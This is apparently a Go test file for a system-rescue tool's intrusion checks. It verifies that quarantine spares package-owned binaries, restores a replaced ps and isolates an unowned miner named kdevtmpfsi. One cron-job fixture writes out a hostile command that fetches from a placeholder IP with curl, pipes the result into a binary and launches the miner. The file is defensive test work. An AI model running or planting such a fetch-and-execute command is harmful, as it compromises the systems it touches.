package intrusion

import (
	"crypto/md5"
	"encoding/hex"
	"os"
	"path/filepath"
	"testing"

	"github.com/rogpeppe/go-internal/txtar"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"rescue/checks"
	"rescue/checks/checkstest"
	"rescue/facts"
	"rescue/pkgdb"
	"rescue/repair"
	"rescue/sysroot"
)

// A package's file is never quarantined: as the package installed it, it is
// refused outright; changed, it is to be restored from its package. A file
// no package owns is quarantined, and without a package database only
// what marks it for what it is lets a file in a packaged directory go.
const quarantineRoot = `
-- usr/bin/bash --
ELF stand-in: bash
-- usr/bin/ps --
ELF stand-in: a replaced ps
-- usr/bin/kdevtmpfsi --
ELF stand-in: a miner no package installed
-- var/lib/dpkg/status --
Package: bash
Status: install ok installed
Architecture: amd64
Version: 5.2.15-2+b7
Description: bash

Package: procps
Status: install ok installed
Architecture: amd64
Version: 2:4.0.2-3
Description: procps
-- var/lib/dpkg/info/bash.list --
/usr/bin/bash
-- var/lib/dpkg/info/bash.md5sums --
d08d64f8a1c1e1d5ad9ddaf9c8b6d8e0  usr/bin/bash
-- var/lib/dpkg/info/procps.list --
/usr/bin/ps
-- var/lib/dpkg/info/procps.md5sums --
00000000000000000000000000000000  usr/bin/ps
`

func TestQuarantineNeverTakesAPackageFile(t *testing.T) {
	dir := t.TempDir()
	checkstest.Unpack(t, txtar.Parse([]byte(quarantineRoot)), dir, false)
	// The md5sum of bash's stand-in, so that dpkg says it is intact.
	fixMD5(t, dir, "usr/bin/bash", "var/lib/dpkg/info/bash.md5sums")
	root, err := sysroot.Open(dir)
	require.NoError(t, err)
	defer root.Close()
	pass := &checks.Pass{Check: &checks.Check{Name: "test"}, Root: root, Facts: facts.New(root, facts.Options{OpenPackages: pkgdb.Open})}
	e := New(pass)

	_, err = e.QuarantineOp("/usr/bin/bash")
	assert.ErrorContains(t, err, "as the package installed it")
	_, err = e.QuarantineOp("/usr/bin/ps")
	assert.ErrorContains(t, err, "restored from the package")
	op, err := e.QuarantineOp("/usr/bin/kdevtmpfsi")
	require.NoError(t, err)
	assert.Equal(t, repair.KindQuarantine, op.Kind)

	bash := e.Judge("/usr/bin/bash", "program")
	assert.True(t, bash.Owned)
	assert.False(t, bash.Quarantinable(true))
	ps := e.Judge("/usr/bin/ps", "program")
	assert.True(t, ps.Replaced)
	assert.False(t, ps.Quarantinable(true))
	miner := e.Judge("/usr/bin/kdevtmpfsi", "program")
	assert.True(t, miner.Quarantinable(true))
	assert.True(t, miner.Quarantinable(false), "its name marks it even without a database")

	// An entry that runs them: bash is left alone, ps restored, the miner
	// quarantined.
	f := e.Finding(&Entry{Place: "cron", Kind: "job", What: "cron job", Path: "/etc/crontab",
		Cmd: AnalyzeShell("/usr/bin/bash -c 'curl -s http://192.0.2.7/a | /usr/bin/ps; /usr/bin/kdevtmpfsi'", "/root")},
		e.JudgeEntry(&Entry{Cmd: AnalyzeShell("/usr/bin/bash -c 'curl -s http://192.0.2.7/a | /usr/bin/ps; /usr/bin/kdevtmpfsi'", "/root")}))
	var kinds []string
	for _, fx := range f.Fixes {
		for _, op := range fx.Ops {
			kinds = append(kinds, string(op.Kind)+" "+op.Path)
		}
	}
	assert.Contains(t, kinds, "quarantine /usr/bin/kdevtmpfsi")
	assert.NotContains(t, kinds, "quarantine /usr/bin/bash")
	assert.NotContains(t, kinds, "quarantine /usr/bin/ps")
}

func fixMD5(t *testing.T, dir, file, sums string) {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(dir, file))
	require.NoError(t, err)
	sum := md5.Sum(data)
	require.NoError(t, os.WriteFile(filepath.Join(dir, sums), []byte(hex.EncodeToString(sum[:])+"  "+file+"\n"), 0o644))
}
